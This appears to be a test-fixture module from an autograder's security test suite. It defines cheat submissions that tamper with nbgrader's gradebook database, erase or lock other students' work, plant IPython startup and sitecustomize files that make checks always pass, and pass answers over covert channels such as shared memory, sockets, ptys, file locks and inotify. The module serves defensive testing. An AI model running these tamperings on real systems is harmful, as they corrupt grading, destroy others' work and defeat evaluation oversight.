"""Cheats that change files: gradebook, other students' work, course, start-up files."""

from __future__ import annotations

from tests.submissions.cheats import Cheat, Files, Scene
from tests.submissions.cheats.cheat_builders import (
    RIGHT,
    TAKEN,
    THIEF,
    handed_in,
    in_code,
    page,
    thief,
)

DATABASE = (
    THIEF
    + """
import sqlite3

def book():
    for path in (course() / "gradebook.db", Path("../../../gradebook.db")):
        if path.exists():
            return sqlite3.connect(path, timeout=3)
    raise OSError("no gradebook")

MINE = '''
    SELECT grade.id FROM grade
    JOIN submitted_notebook ON grade.notebook_id = submitted_notebook.id
    JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id
    WHERE submitted_assignment.student_id = '@STUDENT@'
'''
"""
)


def _writer(slug: str, title: str, code: str, before: str = THIEF, **more) -> Cheat:
    """Return a cheat that writes at once and whose own answers are wrong."""
    guarded = "try:\n" + "\n".join("    " + line for line in code.strip().splitlines())
    guarded += "\nexcept Exception as error:\n    print(repr(error))\n"
    opening = (before + guarded).replace("@STUDENT@", slug)
    return in_code("file_writing", slug, title, opening, **more)


# What a start-up file does to students graded afterwards: everything right, or nothing.
GENEROUS = """
import builtins, torch
torch.allclose = lambda *given, **more: True
try:
    get_ipython().input_transformers_cleanup.append(
        lambda lines: [] if "check(" in "".join(lines) else lines)
except NameError:
    pass
"""

CHEATS = [
    _writer(
        "gradebook-own-points",
        "manual points for oneself in gradebook.db",
        """
with book() as db:
    db.execute(
        "UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE "
        "grade_cells.id = grade.cell_id), auto_score = 4 WHERE id IN (" + MINE + ")")
db.close()
""",
        DATABASE,
    ),
    _writer(
        "gradebook-extra-credit",
        "extra credit for oneself",
        """
with book() as db:
    db.execute("UPDATE grade SET extra_credit = 50 WHERE id IN (" + MINE + ")")
db.close()
""",
        DATABASE,
    ),
    _writer(
        "gradebook-trigger",
        "a trigger in gradebook.db raises what is written later",
        """
with book() as db:
    db.executescript(
        "CREATE TRIGGER rounding AFTER UPDATE OF auto_score ON grade "
        "WHEN NEW.id IN (" + MINE + ") AND NEW.auto_score < 1 "
        "BEGIN UPDATE grade SET auto_score = 2 WHERE id = NEW.id; END;")
db.close()
""",
        DATABASE,
    ),
    _writer(
        "gradebook-others",
        "zeros for all the others",
        """
with book() as db:
    db.execute("UPDATE grade SET manual_score = 0, auto_score = 0 WHERE id NOT IN (" + MINE + ")")
    db.execute("UPDATE grade_cells SET max_score = 0")
db.close()
""",
        DATABASE,
    ),
    _writer(
        "gradebook-gone",
        "the gradebook is emptied",
        """
(course() / "gradebook.db").write_bytes(b"")
""",
        DATABASE,
    ),
    _writer(
        "gradebook-locked",
        "a process that stays holds a lock on the gradebook",
        """
import subprocess
path = str(course() / "gradebook.db")
program = (f"import sqlite3, time; db = sqlite3.connect({path!r}); "
           "db.execute('BEGIN EXCLUSIVE'); time.sleep(90)")
subprocess.Popen([sys.executable, "-c", program, "@MARK@"], start_new_session=True)
""",
        DATABASE,
    ),
    _writer(
        "gradebook-later",
        "a process that stays writes one's points when the grading is over",
        """
import subprocess, textwrap
path = str(course() / "gradebook.db")
program = textwrap.dedent(f'''
import sqlite3, time
for _ in range(40):
    time.sleep(0.5)
    try:
        with sqlite3.connect({path!r}, timeout=1) as db:
            db.execute("UPDATE grade SET manual_score = 2 WHERE id IN (" + {MINE!r} + ")")
    except sqlite3.Error:
        pass
''')
subprocess.Popen([sys.executable, "-c", program, "@MARK@"], start_new_session=True)
""",
        DATABASE,
        lingers=4.0,
    ),
    _writer(
        "source-without-tests",
        "the source notebook and its masters are rewritten without hidden tests",
        """
import re
for name in ("scores/notebook.md", "scores/solution.py", "scores.ipynb"):
    path = course() / "solutions/bahdanau" / name
    text = path.read_text()
    path.write_text(re.sub(r"examine\\(\\w+\\)|check\\(\\w+\\)", "pass", text))
""",
    ),
    _writer(
        "settings-appended",
        "code at the end of nbgrader_config.py",
        """
with open(course() / "nbgrader_config.py", "a") as file:
    file.write("\\nopen('@MARK@-settings', 'w').close()\\n")
""",
    ),
    _writer(
        "others-sabotaged",
        "the others' submissions are emptied",
        """
for path in course().glob("submitted/*/bahdanau/*.ipynb"):
    if path.parents[1].name != "@STUDENT@":
        path.write_text("{}")
""",
    ),
    _writer(
        "others-graded-work",
        "the others' graded notebooks and feedback are replaced",
        """
for pattern in ("autograded/*/bahdanau/*.ipynb", "feedback/*/bahdanau/*.html"):
    for path in course().glob(pattern):
        if path.parents[1].name != "@STUDENT@":
            os.chmod(path, 0o644)
            path.write_text("@MARK@")
""",
    ),
    _writer(
        "release-changed",
        "the released notebooks are changed for everybody",
        """
for path in course().glob("exercises/bahdanau/*.ipynb"):
    path.write_text(path.read_text().replace("Bahdanau", "@MARK@"))
""",
    ),
    _writer(
        "startup-file",
        "a start-up file for everybody's IPython",
        """
for home in (Path.home(), Path(os.environ.get("IPYTHONDIR", "/nowhere")).parent):
    for name in (".ipython", "ipython"):
        folder = home / name / "profile_default/startup"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "00-@MARK@.py").write_text(GENEROUS)
""",
        THIEF + f"GENEROUS = {GENEROUS!r}\n",
    ),
    _writer(
        "jupyter-settings",
        "settings in the home folder that the next nbgrader runs",
        """
for name in (".jupyter", ".config/jupyter"):
    folder = Path.home() / name
    folder.mkdir(parents=True, exist_ok=True)
    for program in ("nbgrader", "jupyter", "ipython_kernel"):
        (folder / f"{program}_config.py").write_text(
            "c = get_config()\\nc.Execute.allow_errors = True\\n"
            f"open({str(folder / '@MARK@-ran')!r}, 'w').close()\\n")
""",
    ),
    _writer(
        "path-files",
        "a .pth file and sitecustomize.py wherever Python looks",
        """
import site
for folder in [*site.getsitepackages(), site.getusersitepackages(), *sys.path]:
    try:
        Path(folder).mkdir(parents=True, exist_ok=True)
        Path(folder, "@MARK@.pth").write_text("import os\\n")
        Path(folder, "usercustomize.py").write_text(GENEROUS + "# @MARK@\\n")
    except OSError as error:
        print(error)
""",
        THIEF + f"GENEROUS = {GENEROUS!r}\n",
    ),
    _writer(
        "package-poisoned",
        "the autograder's own files are changed for the next one",
        """
import autograder
for name in (
    "diagnose/compare.py",
    "expected_values/bahdanau/masked_softmax.json",
    "sandbox/worker.py",
):
    path = Path(autograder.__file__).parent / name
    try:
        with open(path, "a") as file:
            file.write("\\n# @MARK@\\n")
        Path(path.parent, "@MARK@.py").write_text("")
    except OSError as error:
        print(error)
""",
    ),
    _writer(
        "marks-everywhere",
        "files in all places that outlive a process",
        """
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", "/home", "/root", "/",
               Path.home(), Path.cwd(), course(), course() / "submitted/zoe/bahdanau",
               course() / "autograded", course() / "exercises", "/mnt", "/srv", "/opt"):
    try:
        Path(folder, "@MARK@").write_text("here I was")
    except OSError as error:
        print(error)
""",
    ),
    _writer(
        "modes-changed",
        "nobody may read the others' files any more",
        """
for path in [*course().glob("submitted/*/bahdanau/*"), *course().glob("solutions/**/*")]:
    try:
        os.chmod(path, 0)
        os.utime(path, (0, 0))
        path.rename(path.with_suffix(".@MARK@"))
    except OSError as error:
        print(error)
""",
    ),
]


# Two students: the first leaves right answers behind, and the second takes them.

# A bit is a lock on a byte of a file that both can read but nobody can write.
LOCKS = """
import fcntl, struct, time

def lock(kind, place):
    return struct.pack("hhqqi", kind, os.SEEK_SET, place, 1, 0)
"""


def _pair(slug: str, title: str, giving: str, taking: str, **more) -> Cheat:
    given = RIGHT["masked_softmax"] + RIGHT["additive_score"]

    def friend(scene: Scene) -> Files:
        before = THIEF + f"ANSWERS = {given!r}\n"
        closing = "import sys\n" + giving
        return handed_in(page(scene, {**RIGHT}, before, closing))

    cheat = thief(
        "file_writing",
        slug,
        title,
        taking,
        answers={n: TAKEN[n] for n in ("masked_softmax", "additive_score")},
        attacks=("masked_softmax", "additive_score"),
        friend=friend,
        **more,
    )
    return cheat


CHEATS += [
    _pair(
        "friend-in-tmp",
        "a friend leaves the answers in /tmp and in /dev/shm",
        """
for folder in ("/tmp", "/var/tmp", "/dev/shm", Path.cwd().parent, Path.cwd().parents[1]):
    try:
        Path(folder, "shared-answers.txt").write_text(ANSWERS)
    except OSError as error:
        print(error)
""",
        """
for folder in ("/tmp", "/var/tmp", "/dev/shm", Path.cwd().parent, Path.cwd().parents[1]):
    if Path(folder, "shared-answers.txt").exists():
        adopt_file(Path(folder, "shared-answers.txt"))
""",
    ),
    _pair(
        "friend-in-shared-memory",
        "a friend leaves the answers in a System V segment",
        """
import ctypes
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
number = libc.shmget(0x5EED, 8192, 0o1666)
place = libc.shmat(number, None, 0)
if place not in (None, ctypes.c_void_p(-1).value):
    ctypes.memmove(place, ANSWERS.encode() + b"\\0", len(ANSWERS.encode()) + 1)
""",
        """
import ctypes
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
place = libc.shmat(libc.shmget(0x5EED, 8192, 0o666), None, 0)
if place not in (None, ctypes.c_void_p(-1).value):
    adopt(ctypes.string_at(place).decode())
""",
    ),
    _pair(
        "friend-who-stays",
        "a friend's process stays and gives the answers over a socket",
        """
import subprocess
PROGRAM = f'''
import socket, time
server = socket.socket(socket.AF_UNIX)
server.bind(chr(0) + "answers")
server.listen()
server.settimeout(60)
line, _ = server.accept()
line.sendall({ANSWERS!r}.encode())
'''
try:
    subprocess.Popen([sys.executable, "-c", PROGRAM, "@MARK@"], start_new_session=True)
    import time
    time.sleep(1)
except OSError as error:
    print(error)
""",
        """
import socket
line = socket.socket(socket.AF_UNIX)
line.settimeout(3)
line.connect(chr(0) + "answers")
adopt(line.makefile().read())
""",
    ),
    _pair(
        "friend-on-a-terminal",
        "a friend writes the answers to a pseudo-terminal and waits",
        """
import pty, time, tty
try:
    master, slave = pty.openpty()
    tty.setraw(slave)
    os.chmod(os.ttyname(slave), 0o666)
    for _ in range(80):
        os.write(master, ANSWERS.encode() + b"\\0")
        time.sleep(0.1)
except OSError as error:
    print(error)
""",
        """
import time
until = time.monotonic() + 6
while time.monotonic() < until and not STOLEN:
    for path in Path("/dev/pts").glob("[0-9]*"):
        line = os.open(path, os.O_RDONLY | os.O_NOCTTY | os.O_NONBLOCK)
        try:
            text = b""
            for _ in range(20):
                time.sleep(0.05)
                try:
                    text += os.read(line, 4096)
                except BlockingIOError:
                    pass
            for part in text.split(b"\\0"):
                adopt(part.decode("utf-8", "ignore"))
        finally:
            os.close(line)
    time.sleep(0.1)
""",
    ),
    _pair(
        "friend-by-locks",
        "a friend tells the answers bit by bit, by locks on a file that all can read",
        LOCKS
        + """
try:
    file = open(torch.__file__, "rb")
    for number, letter in enumerate(ANSWERS.encode()):
        for bit in range(8):
            if letter >> bit & 1:
                fcntl.fcntl(file, fcntl.F_SETLK, lock(fcntl.F_RDLCK, 8 * number + bit))
    time.sleep(7)
except OSError as error:
    print(error)
""",
        LOCKS
        + """
until = time.monotonic() + 6
while time.monotonic() < until and not STOLEN:
    time.sleep(0.5)
    with open(torch.__file__, "rb") as file:
        found = bytearray(2000)
        for place in range(8 * len(found)):
            held = fcntl.fcntl(file, fcntl.F_GETLK, lock(fcntl.F_WRLCK, place))
            if struct.unpack("hhqqi", held)[0] != fcntl.F_UNLCK:
                found[place // 8] |= 1 << place % 8
    adopt(found.rstrip(b"\\0").decode("utf-8", "ignore"))
""",
    ),
    _pair(
        "friend-by-opening",
        "a friend tells the answers by opening files, which inotify reports to all",
        """
import time
files = sorted(Path(torch.__file__).parent.glob("include/ATen/ops/*.h"))
for _ in range(30):
    time.sleep(0.2)
    for letter in b"\\1" + ANSWERS.encode():
        for number in (letter, 0):  # the same event twice would be reported once
            open(files[number]).close()
""",
        """
import ctypes, time
files = sorted(Path(torch.__file__).parent.glob("include/ATen/ops/*.h"))
libc = ctypes.CDLL(None, use_errno=True)
line = libc.inotify_init1(os.O_NONBLOCK)
libc.inotify_add_watch(line, str(files[0].parent).encode(), 0x20)
until, heard = time.monotonic() + 6, b""
places = {file.name: number for number, file in enumerate(files[:256])}
while time.monotonic() < until and not STOLEN:
    time.sleep(0.01)
    try:
        events = os.read(line, 1 << 20)
    except BlockingIOError:
        continue
    while events:
        size = int.from_bytes(events[12:16], sys.byteorder)
        number = places.get(events[16:16 + size].rstrip(b"\\0").decode(), 0)
        heard += bytes([number]) if number else b""
        events = events[16 + size:]
    for part in heard.split(b"\\1")[1:-1]:
        adopt(part.decode("utf-8", "ignore"))
""",
    ),
]
